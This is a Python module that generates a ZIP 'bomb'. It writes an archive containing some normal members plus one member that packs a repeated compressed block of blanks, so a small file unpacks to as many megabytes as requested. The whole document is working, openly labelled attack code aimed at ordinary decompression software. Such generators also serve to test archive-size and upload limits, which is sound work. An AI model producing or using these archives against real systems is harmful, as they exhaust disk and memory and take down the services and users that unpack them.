"""A ZIP archive that is small on disk and huge unpacked, written without ever holding what it unpacks to."""

import struct
import zlib
from pathlib import Path

BLOCK = b" " * 1_000_000
DOS_DATE, DEFLATED, VERSION = 0x5C21, 8, 20  # 1 January 2026; method; version needed
LOCAL = struct.Struct("<4s5H3L2H")
CENTRAL = struct.Struct("<4s6H3L5H2L")
END = struct.Struct("<4s4H2LH")


def write_bomb(path: Path, members: dict[str, bytes], *, bomb: str, megabytes: int) -> None:
    """Write an archive of the members and one more, `bomb`, that unpacks to blanks of that many megabytes."""
    parts = {name: (_deflated(data), zlib.crc32(data), len(data)) for name, data in members.items()}
    parts[bomb] = _blanks(megabytes)
    body, directory = b"", b""
    for name, (packed, check, size) in parts.items():
        encoded = name.encode()
        shared = (VERSION, 0, DEFLATED, 0, DOS_DATE, check, len(packed), size, len(encoded), 0)
        directory += CENTRAL.pack(b"PK\x01\x02", VERSION, *shared, 0, 0, 0, 0, len(body)) + encoded
        body += LOCAL.pack(b"PK\x03\x04", *shared) + encoded + packed
    end = END.pack(b"PK\x05\x06", 0, 0, len(parts), len(parts), len(directory), len(body), 0)
    path.write_bytes(body + directory + end)


def _deflated(data: bytes) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    return packer.compress(data) + packer.flush()


def _blanks(megabytes: int) -> tuple[bytes, int, int]:
    """Return blanks packed, their checksum and size: one block is packed and then repeated as it is."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    block = packer.compress(BLOCK) + packer.flush(zlib.Z_FULL_FLUSH)
    check = 0
    for _ in range(megabytes):
        check = zlib.crc32(BLOCK, check)
    return block * megabytes + packer.flush(), check, megabytes * len(BLOCK)
